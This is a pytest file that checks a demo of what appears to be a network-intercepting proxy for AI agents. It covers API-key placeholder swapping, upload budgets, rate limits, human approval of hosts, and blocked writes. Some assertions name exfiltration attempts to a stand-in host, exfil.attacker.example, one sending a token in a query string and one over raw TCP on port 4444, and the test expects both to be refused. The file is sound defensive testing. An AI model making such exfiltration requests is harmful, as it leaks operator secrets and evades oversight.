"""`make demo`, the README's first command, tells the story it promises."""

from __future__ import annotations

import re
import subprocess
from pathlib import Path

import pytest

ROOT = Path(__file__).parent.parent

pytestmark = pytest.mark.netns


def test_demo():
    result = subprocess.run(
        [ROOT / "scripts" / "demo"], capture_output=True, text=True, timeout=300, cwd=ROOT
    )
    out = result.stdout
    assert result.returncode == 0, result.stderr
    # allowed reads, an allowed LLM API POST
    assert "GET https://api.github.com/repos/octo/hello -> HTTP 200" in out
    assert "POST https://api.anthropic.com/v1/messages -> HTTP 200" in out
    # the LLM API key: the agent holds a placeholder, the API gets the operator's key
    key = out.split("the operator's ANTHROPIC_API_KEY: ")[1].split(")")[0]
    assert "ANTHROPIC_API_KEY=intercept-proxy-placeholder" in out
    assert f"the API received x-api-key: {key}" in out
    assert f"ANTHROPIC_API_KEY={key}" not in out
    # the upload budget: refused before anything is sent
    assert "POST https://api.anthropic.com/v1/files -> HTTP 403" in out
    assert '"code": "BUDGET_EXCEEDED"' in out or '"code":"BUDGET_EXCEEDED"' in out
    # the rate limit: four calls a minute, then 429 with Retry-After, logged as its decision
    assert "GET https://api.anthropic.com/v1/models -> HTTP 429 retry-after: 15" in out
    assert re.search(r"DENY +GET +api\.anthropic\.com +/v1/models +rate_limit ", out)
    # an approval: the request waits, a person allows the host for the run, the next one passes
    assert re.search(r"operator> intercept approvals allow [0-9a-f]{8} --for run", out)
    assert "GET registry.npmjs.org:443/left-pad  (allowing it adds allowed_domains" in out
    assert "GET https://registry.npmjs.org/left-pad -> HTTP 200" in out
    assert "GET https://registry.npmjs.org/is-odd -> HTTP 200" in out
    assert re.search(r"ALLOW +GET +registry\.npmjs\.org +/left-pad +approved ", out)
    assert re.search(r"ALLOW +GET +registry\.npmjs\.org +/is-odd +allowed_domains ", out)
    # a denied write, a denied unknown host
    assert "POST https://api.github.com/repos/octo/hello/issues -> HTTP 403" in out
    assert "POST https://pypi.org/legacy/ -> HTTP 403" in out  # an upload, explained
    assert "GET https://exfil.attacker.example/collect?token=secret -> HTTP 403" in out
    # raw-socket exfiltration blocked
    assert "raw TCP to exfil.attacker.example:4444 -> refused" in out
    # git clone works, git push refused
    assert "cloned: README.md" in out
    assert "returned error: 403" in out
    # the table, and the proof from the lab's side
    assert "DENY      GET     exfil.attacker.example" in out
    assert "exfil.attacker.example   nothing" in out
    assert "token=secret" not in out.split("== every decision")[1]  # queries never logged
